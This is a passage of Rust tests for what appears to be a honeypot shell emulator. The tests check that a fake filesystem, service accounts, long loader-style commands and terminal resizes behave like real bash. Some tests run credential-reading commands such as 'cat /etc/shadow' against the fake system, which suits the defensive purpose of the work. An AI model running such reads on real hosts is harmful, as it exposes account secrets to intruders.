        exec("x=1; export y=2; export -p | grep -c 'x='; echo $! ; sleep 1 & echo $!");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "0");
    assert_eq!(lines[1], "");
    assert!(lines[2].parse::<u32>().is_ok(), "{out}");
}

/// Globs match the fake filesystem.
#[test]
fn globs_match_the_fake_filesystem() {
    let (out, _, _, _) = exec("echo /etc/pass* /etc/host?ame; echo /nope/*");
    assert_eq!(out, "/etc/passwd /etc/hostname\n/nope/*\n");
    let (out, _, _, _) =
        exec("cd /tmp && touch a.sh b.sh c.txt && echo *.sh && for f in *.txt; do echo $f; done");
    assert_eq!(out, "a.sh b.sh\nc.txt\n");
}

#[path = "grammar_oracle.rs"]
mod grammar_oracle;

#[path = "intruder_oracle.rs"]
mod intruder_oracle;

#[path = "ulimit_oracle.rs"]
mod ulimit_oracle;

#[path = "last_oracle.rs"]
mod last_oracle;

/// An exec command far longer than a typed line (a loader's base64 payload) runs whole,
/// as `bash -c` runs it; past `max_exec` it is cut and reported.
#[test]
fn long_exec_commands_run_whole() {
    let payload = "A".repeat(100_000);
    let (out, _, code, eff) = exec(&format!("echo {payload} | wc -c"));
    assert_eq!((out.as_str(), code), ("100001\n", 0));
    assert!(
        !eff.iter().any(|e| matches!(
            e,
            Effect::Limit {
                limit: "shell_line",
                ..
            }
        )),
        "{eff:?}"
    );
    let huge = "B".repeat(ShellLimits::default().max_exec + 10);
    let (_, _, _, eff) = exec(&format!("echo {huge}"));
    assert!(
        eff.iter().any(|e| matches!(
            e,
            Effect::Limit {
                limit: "shell_line",
                ..
            }
        )),
        "{eff:?}"
    );
}

/// A number too large for a file descriptor right before `>` is an ordinary word, as in
/// bash (brush-parser unwrapped it as an `i32` and panicked: a fuzz finding).
#[test]
fn an_overflowing_io_number_is_a_word() {
    let (out, err, code, _) = exec(
        "echo hi 11111111111111111111111111> /tmp/f; cat /tmp/f; echo 2147483648>/tmp/g; cat /tmp/g",
    );
    assert_eq!(
        (out.as_str(), err.as_str(), code),
        ("hi 11111111111111111111111111\n2147483648\n", "", 0)
    );
}

/// A bare `!` negates an empty command: status 1, as bash (it underflowed the pipeline
/// length in the executor: a fuzz finding).
#[test]
fn a_bare_bang_is_status_one() {
    let (out, _, code, _) = exec("true; !\necho $?");
    assert_eq!((out.as_str(), code), ("1\n", 0));
}

/// A node running Redis, MariaDB, Postfix and vsftpd: the process owners, the
/// listening sockets' uids, the service directories' owners and the account files agree.
#[test]
fn service_accounts_agree_across_ps_proc_ls_and_etc() {
    use crate::persona::{Listener, NodePersona, Persona, Program};
    let node = NodePersona::new(Persona::reference("db-1"));
    node.set_listeners(
        [
            (22, Program::Sshd),
            (21, Program::Vsftpd),
            (25, Program::Postfix),
            (3306, Program::Mariadb),
            (6379, Program::Redis),
        ]
        .into_iter()
        .map(|(port, program)| Listener { port, program })
        .collect(),
    );
    let login = Login {
        user: "root".into(),
        src: "203.0.113.9".parse().unwrap(),
        now: 1_713_090_151,
    };
    let mut s = Shell::new(
        Profile::for_node(&node, ""),
        &login,
        false,
        ShellLimits::default(),
    );
    let mut run = |line: &str| text(&s.exec(line.as_bytes(), 1_713_090_200).stdout);
    let passwd = run("cat /etc/passwd");
    let uid = |name: &str| -> String {
        passwd
            .lines()
            .find(|l| l.starts_with(&format!("{name}:")))
            .unwrap_or_else(|| panic!("{name} not in\n{passwd}"))
            .split(':')
            .nth(2)
            .unwrap()
            .to_owned()
    };
    assert_eq!(uid("redis"), "103", "{passwd}");
    assert!(passwd.contains("mysql:x:104:111:MySQL Server,,,:/nonexistent:/bin/false\n"));
    let ps = run("ps aux");
    for (user, args) in [
        ("redis", "redis-server"),
        ("mysql", "mariadbd"),
        ("postfix", "qmgr"),
        ("message+", "dbus-daemon"),
    ] {
        assert!(
            ps.lines().any(|l| l.starts_with(user) && l.contains(args)),
            "{user} {args} in\n{ps}"
        );
    }
    let tcp = run("cat /proc/net/tcp");
    let row = |port: u16| -> String {
        tcp.lines()
            .find(|l| l.contains(&format!(":{port:04X} 00000000:0000 0A")))
            .unwrap_or_else(|| panic!("{port} in\n{tcp}"))
            .split_whitespace()
            .nth(7)
            .unwrap()
            .to_owned()
    };
    assert_eq!(row(6379), uid("redis"));
    assert_eq!(row(3306), uid("mysql"));
    let ls = run("ls -ld /var/lib/redis /var/lib/mysql /var/lib/postfix /srv/ftp");
    for want in [
        "drwxr-x--- 2 redis   redis   ",
        "drwxr-xr-x 2 mysql   mysql   ",
        "drwxr-xr-x 2 postfix postfix ",
        "drwxr-xr-x 2 root    root    ",
    ] {
        assert!(ls.contains(want), "{want} in\n{ls}");
    }
    let shadow = run("cat /etc/shadow");
    let names = |f: &str| {
        f.lines()
            .map(|l| l.split(':').next().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&passwd), names(&shadow));
    let group = run("cat /etc/group");
    assert!(
        group.contains("\npostfix:x:112:\npostdrop:x:113:\n"),
        "{group}"
    );
    assert_eq!(run("stat -c %U /var/log/redis"), "redis\n");
    // `id` of the service accounts, in coreutils' layout (checked against the real
    // `id redis` of a Debian 12 box with the packages installed).
    assert_eq!(
        run("id redis; id -g sshd; id -Gn mysql; id -un postfix; id -u root"),
        "uid=103(redis) gid=110(redis) groups=110(redis)\n65534\nmysql\npostfix\n0\n"
    );
    let r = s.exec(b"id nosuch; echo $?", 1_713_090_200);
    assert_eq!(
        text(&r.stderr),
        "id: \u{2018}nosuch\u{2019}: no such user\n"
    );
    assert_eq!(text(&r.stdout), "1\n");
}

/// A node without those services has none of their accounts.
#[test]
fn a_web_node_has_no_database_accounts() {
    let (out, _, _, _) = exec("cat /etc/passwd /etc/group; ls /var/lib");
    for name in ["redis", "mysql", "postfix", "ftp:"] {
        assert!(!out.contains(name), "{name} in\n{out}");
    }
}

/// Issue 12: a window change (SSH) or NAWS (telnet) at the prompt is bash's SIGWINCH:
/// readline clears the line being edited and draws the prompt and the line again at
/// the new width (line_editor's tests compare the bytes with real bash's).
#[test]
fn a_window_change_at_the_prompt_redraws_the_line() {
    let prompt = "root@web-prod-02:~# ";
    let mut s = shell(true);
    // Before the first prompt (SSH's pty size, telnet's first NAWS): nothing.
    assert!(s.set_size(40, 24).stdout.is_empty());
    s.greeting();
    // An empty line.
    let r = s.set_size(60, 24);
    assert_eq!(
        String::from_utf8_lossy(&r.stdout),
        format!("\r\x1b[K\r{prompt}")
    );
    assert!(r.exit.is_none() && r.effects.is_empty());
    // A line wrapped at 40 columns, redrawn on one screen line at 60.
    s.set_size(40, 24);
    let typed = "y".repeat(30);
    let r = s.input(typed.as_bytes(), 1);
    assert_eq!(
        String::from_utf8_lossy(&r.stdout),
        format!("{} \r{}", "y".repeat(20), "y".repeat(10))
    );
    let r = s.set_size(60, 24);
    assert_eq!(
        String::from_utf8_lossy(&r.stdout),
        format!("\r\x1b[K\r\x1b[A\x1b[K\r{prompt}{typed}")
    );
    // The same size again: the kernel sends no SIGWINCH, bash writes nothing.
    assert!(s.set_size(60, 24).stdout.is_empty());
    // The rows alone change: readline redraws too.
    let r = s.set_size(60, 30);
    assert_eq!(
        String::from_utf8_lossy(&r.stdout),
        format!("\r\x1b[K\r{prompt}{typed}")
    );
    // Absurd sizes: 0 and 1 columns are 80 to readline (so 0 after 1 is no change),
    // 65535 is clamped; nothing panics, and the line still runs.
    let r = s.set_size(1, 30);
    assert_eq!(
        String::from_utf8_lossy(&r.stdout),
        format!("\r\x1b[K\r{prompt}{typed}")
    );
    assert!(s.set_size(0, 30).stdout.is_empty());
    assert!(s.set_size(80, 30).stdout.is_empty());
    for (w, h) in [(65535, 65535), (0, 0), (1, 1), (u32::MAX, u32::MAX), (2, 2)] {
        let r = s.set_size(w, h);
        assert!(r.stdout.len() < 4096, "{w}x{h}: {}", r.stdout.len());
        assert!(r.exit.is_none());
    }
    s.set_size(80, 24);
    let r = s.input(b"\r", 2);
    assert!(
        text(&r.stdout).contains("command not found"),
        "{:?}",
        text(&r.stdout)
    );
    // A PS2 line is drawn with its `> `.
    s.input(b"if true\r", 3);
    let r = s.set_size(70, 24);
    assert_eq!(String::from_utf8_lossy(&r.stdout), "\r\x1b[K\r> ");
}

#[test]
fn no_redraw_without_a_prompt() {
    // Without a terminal.
    let mut s = shell(false);
    s.input(b"echo hi", 1);
    assert!(s.set_size(30, 24).stdout.is_empty());
    // After the session ended.
    let mut s = shell(true);
    s.greeting();
    s.input(b"exit\r", 1);
    assert!(s.ended());
    let r = s.set_size(30, 24);
    assert!(r.stdout.is_empty() && r.exit.is_none());
}

/// A flood of window changes: one redraw each, every byte charged against the
/// session's output cap, which ends the session once.
#[test]
fn a_flood_of_window_changes_is_capped() {
    let limits = ShellLimits {
        max_session_output: 64 * 1024,
        ..ShellLimits::default()
    };
    let mut s = shell_with(true, limits, "root");
    s.greeting();
    s.input(&[b'q'; 4096], 1);
    let (mut total, mut ends, mut largest) = (0usize, 0, 0usize);
    for i in 0..10_000u32 {
        let r = s.set_size(20 + i % 2, 24);
        total += r.stdout.len();
        largest = largest.max(r.stdout.len());
        if r.exit.is_some() {
            ends += 1;
            assert!(
                r.effects
                    .iter()
                    .any(|e| matches!(e, Effect::Limit { limit, .. } if *limit == "shell_output")),
                "{:?}",
                r.effects
            );
        }
    }
    assert_eq!(ends, 1);
    assert!(s.ended());
    // One redraw of a 4096-byte line 20 columns wide: its ~206 screen lines cleared
    // and the prompt and line once.
    assert!(largest < 4096 + 4 * 1024, "{largest}");
    assert!(total <= 64 * 1024 + largest, "{total}");
}
